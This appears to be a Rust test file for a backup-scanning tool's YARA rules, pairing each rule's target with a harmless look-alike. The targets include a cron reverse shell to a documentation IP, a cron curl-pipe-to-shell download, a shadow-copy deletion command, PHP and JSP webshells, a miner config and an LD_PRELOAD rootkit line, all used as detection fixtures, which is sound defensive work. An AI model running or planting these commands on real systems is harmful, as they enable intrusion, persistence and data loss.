//! Each shipped rule on what it is for, beside something like it that is harmless; and a stack's own rules.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod support;

use drawbridge_protocol::{checks::CheckId, orders::RulesFile};
use drawbridge_rules::{Rules, shipped};
use support::{block_end, check, config, example, file, found, rules, tar};

/// What a rule is for, and what is like it and harmless.
const CASES: &[(&str, &str, &str)] = &[
    (
        "ransom_note",
        "ALL YOUR FILES HAVE BEEN ENCRYPTED! Send 2 Bitcoin, then write to us: http://abc.onion with your personal ID.",
        "The backup's files have been encrypted with our own key; pay attention to its rotation, see bitcoin-free.md.",
    ),
    ("ransomware_kills_recovery", "cmd /c vssadmin Delete Shadows /all /quiet", "vssadmin list shadows"),
    ("ransomware_file_marker", "WANACRY!\0\x01\0\0", "the word WANACRY! in a report about it"),
    (
        "webshell_php",
        "<?php @eval(base64_decode($_POST['x'])); ?>",
        "<?php echo htmlspecialchars($_GET['page']); system('ls'); ?>",
    ),
    (
        "webshell_jsp",
        "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
        "<% String page = request.getParameter(\"page\"); %>",
    ),
    ("webshell_known", "<?php /* c99shell v1 */ ?>", "deny from c99shell scanners"),
    (
        "cryptominer_config",
        "{\"pools\":[{\"url\":\"stratum+tcp://pool:3333\"}],\"donate-level\":1}",
        "{\"pools\":[{\"url\":\"postgres://pool:3333\"}],\"level\":1}",
    ),
    ("reverse_shell", "* * * * * bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "exec 3<>/dev/tcp/127.0.0.1/80"),
    (
        "download_and_run",
        "*/5 * * * * root curl -fsSL http://192.0.2.7/x.sh | sh",
        "RUN curl -fsSL https://get.example.com/install.sh | sh",
    ),
    (
        "preloaded_rootkit",
        "export LD_PRELOAD=/tmp/.x/libhide.so",
        "export LD_PRELOAD=/usr/lib/libjemalloc.so",
    ),
];

#[test]
fn each_shipped_rule_finds_what_it_is_for_and_not_what_is_like_it() {
    let rules = rules("");
    for (rule, bad, good) in CASES {
        let report = check(&rules, "", "etc.web-0.app.tar.zst", &tar(&[file("etc/x", *bad)])).unwrap();
        assert_eq!(example(&report, CheckId::Yara), format!("yara.{rule} in etc/x"));
        let report = check(&rules, "", "etc.web-0.app.tar.zst", &tar(&[file("etc/x", *good)])).unwrap();
        assert_eq!(found(&report), Vec::<String>::new(), "{rule}");
    }
}

#[test]
fn each_shipped_rule_has_a_case() {
    let text: String = shipped().iter().map(|(_, text)| *text).collect();
    for line in text.lines().filter(|line| line.starts_with("rule ")) {
        let rule = line.trim_start_matches("rule ").trim_end_matches(" {");
        let tested = rule == "eicar_test_file" || CASES.iter().any(|(name, _, _)| *name == rule);
        assert!(tested, "{rule}");
    }
}

#[test]
fn a_finding_says_which_rules_matched_where_first_and_how_often() {
    let note = CASES[0].1;
    let files =
        [file("a/README", note), file("b/README", note), file("c/README", note), file("d", CASES[7].1)];
    let report = check(&rules(""), "", "etc.web-0.app.tar.zst", &tar(&files)).unwrap();
    assert_eq!(found(&report), ["yara: yara.ransom_note in a/README and 2 more; yara.reverse_shell in d"]);
}

#[test]
fn a_stack_s_own_rule_counts_beside_the_shipped_ones() {
    let text =
        r#"rule house_rule { meta: effect = "reject" strings: $a = "do not back this up" condition: $a }"#;
    let own = [RulesFile { name: "house.yar".to_owned(), text: text.to_owned() }];
    let rules = Rules::new(config(""), &own, None).unwrap();
    let archive = tar(&[file("secret.txt", "do not back this up")]);
    let rejection = check(&rules, "", "etc.web-0.app.tar.zst", &archive).unwrap();
    // `yara=flag` of the stack counts before the rule's own effect.
    assert_eq!(found(&rejection), ["yara: yara.house_rule in secret.txt"]);
    let more = "yara.house_rule=reject";
    let rules = Rules::new(config(more), &own, None).unwrap();
    assert!(check(&rules, more, "etc.web-0.app.tar.zst", &archive).is_err());
    assert!(check(&rules, more, "etc.web-0.app.tar.zst", &tar(&[file("a", "fine")])).is_ok());
}

#[test]
fn a_match_longer_than_the_overlap_is_found_within_a_block_and_may_be_missed_across_two() {
    let text = r"rule long { strings: $a = { 41 42 43 [5000-6000] 58 59 5A } condition: $a }";
    let own = [RulesFile { name: "long.yar".to_owned(), text: text.to_owned() }];
    let rules = Rules::new(config(""), &own, None).unwrap();
    let long = [b"ABC".to_vec(), vec![b'.'; 5_500], b"XYZ".to_vec()].concat();
    let inside = tar(&[file("x", long.clone())]);
    let report = check(&rules, "", "etc.web-0.app.tar.zst", &inside).unwrap();
    assert_eq!(example(&report, CheckId::Yara), "yara.long in x");
    // The beginning is past the overlap of the next block, and the end past the end of this one.
    for end in [0, 1, 4].map(block_end) {
        let across = [vec![b'.'; end - 5_000], long.clone()].concat();
        let report = check(&rules, "", "etc.web-0.app.tar.zst", &tar(&[file("x", across)])).unwrap();
        assert_eq!(found(&report), Vec::<String>::new(), "across {end}");
    }
}
